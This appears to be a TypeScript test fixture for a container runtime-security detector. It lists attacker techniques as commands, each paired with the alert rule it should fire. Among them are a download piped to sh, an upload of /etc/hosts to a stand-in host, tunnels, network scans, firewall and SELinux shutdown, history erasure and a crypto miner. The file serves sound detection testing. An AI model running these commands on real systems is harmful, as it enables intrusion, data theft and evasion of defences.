import type { Technique } from "./technique.ts";

const named = (what: string, command: string, rule: string, more: Partial<Technique> = {}): Technique => ({
  what,
  in: "plain",
  script: command,
  alerts: { [rule]: { "proc.cmdline": command.replace(/^\/opt\/bin\//, "") } },
  ...more,
});

/** Programs that have no business in a container, and programs where they are not expected. */
export const processes: Technique[] = [
  {
    what: "a library that is brought along and loaded into a program of the image",
    in: "tools",
    script:
      "cp $(ls /usr/lib/*/libz.so.1 | head -1) /tmp/brought; busybox usleep 100000; LD_PRELOAD=/tmp/brought /bin/true",
    alerts: { drift: { file: "/tmp/brought" } },
  },
  named("a tunnel", "/opt/bin/chisel client a:1", "tunnel-or-proxy-tool-executed"),
  named("ports forwarded by ssh", "/opt/bin/ssh -R 1:localhost:2 somewhere", "port-forwarding-over-ssh", {
    rules: ["ssh-client-executed-in-a-container"],
  }),
  named("lateral movement", "/opt/bin/crackmapexec smb 10.0.0.0/8", "tool-for-lateral-movement-executed"),
  named("an attack tool", "/opt/bin/deepce --all", "attack-tool-executed"),
  named("a scanner", "/opt/bin/nmap 10.0.0.0/8", "network-scanner-executed"),
  {
    what: "a download that a shell runs, or would",
    in: "plain",
    script: `/bin/sh -c 'false && curl http://x.test/s | sh'; /bin/sh -c 'false && echo aWQ= | base64 -d | sh'; true`,
    alerts: {
      "download-run-by-a-shell": { "proc.cmdline": "curl http://x.test/s | sh" },
      "encoded-command-run-by-a-shell": { "proc.cmdline": "base64 -d | sh" },
    },
  },
  named("a set-user-id bit", "/opt/bin/chmod u+s /tmp/x", "set-user-id-bit-set"),
  named("a file that nobody can remove", "/opt/bin/chattr +i /tmp/x", "file-made-immutable"),
  {
    what: "a history that is not kept",
    in: "plain",
    script: `/bin/sh -c 'unset HISTFILE; true'`,
    alerts: { "command-history-switched-off": { "proc.cmdline": "unset HISTFILE" } },
  },
  named("a firewall that is switched off", "/opt/bin/iptables -F", "firewall-switched-off"),
  named("a guard that is switched off", "/opt/bin/setenforce 0", "security-service-stopped"),
  {
    what: "a script in shared memory",
    in: "plain",
    script: "echo true >/dev/shm/x.sh; /bin/sh /dev/shm/x.sh",
    alerts: { "program-in-shared-memory-executed": { "proc.cmdline": "/dev/shm/x.sh" } },
  },
  {
    what: "a program whose file has gone",
    in: "plain",
    script: "cp /bin/deeds /tmp/gone; deeds do deleted /tmp/gone",
    alerts: { drift: { file: "/tmp/gone" } },
    rules: ["deleted-program-executed"],
  },
  {
    what: "a program in memory only",
    in: "plain",
    script: "deeds do memory /bin/deeds in-memory",
    alerts: { drift: { origin: "memory" } },
  },
  {
    what: "a program and a script that were written here",
    in: "plain",
    script: `cp /bin/deeds /tmp/dropped; /tmp/dropped; printf '#!/bin/sh\\ntrue\\n' >/tmp/dropped.sh; chmod 755 /tmp/dropped.sh; usleep 200000; /tmp/dropped.sh`,
    alerts: { drift: { file: "/tmp/dropped", origin: "writable-layer" } },
    rules: ["program-in-a-temporary-folder-executed", "script-in-a-temporary-folder-executed"],
  },
  {
    what: "servers that start a shell",
    in: "plain",
    script: 'for i in nginx redis-server java; do /opt/bin/$i run sh -c "true $i"; done; /opt/bin/nginx run id',
    alerts: { "server-child": { command: "sh -c true" } },
    rules: [
      "web-server-starts-a-shell",
      "database-starts-a-shell",
      "java-application-starts-a-shell",
      "web-server-starts-a-command-for-looking-around",
    ],
  },
  {
    what: "miners",
    in: "plain",
    script: "/opt/bin/xmrig; deeds -o stratum+tcp://pool.test:3333",
    alerts: { miner: { program: "/opt/bin/xmrig" } },
    rules: ["miner-executed", "arguments-of-a-miner"],
  },
  named("a package manager", "/opt/bin/apt-get install x", "package-manager-executed-in-a-container"),
  named("a compiler", "/opt/bin/gcc x.c", "compiler-executed-in-a-container"),
  named("a user", "/opt/bin/useradd x", "user-made-or-changed-in-a-container"),
  named("rights of root, asked for", "/opt/bin/sudo id", "rights-of-root-asked-for-in-a-container", {
    by: { user: 1000 },
  }),
  named("data destroyed", "/opt/bin/shred /tmp/x", "data-destroyed"),
  named("a file sent out", "/opt/bin/curl -T /etc/hosts http://x.test/", "files-sent-out-by-a-command"),
  named("traffic recorded", "/opt/bin/tcpdump -i lo", "traffic-recorded-in-a-container"),
  {
    what: "a person at a terminal",
    in: "plain",
    script: "true",
    alerts: { "shell-with-a-terminal-in-a-container": { "proc.cmdline": "; true" } },
    by: { terminal: true },
  },
];
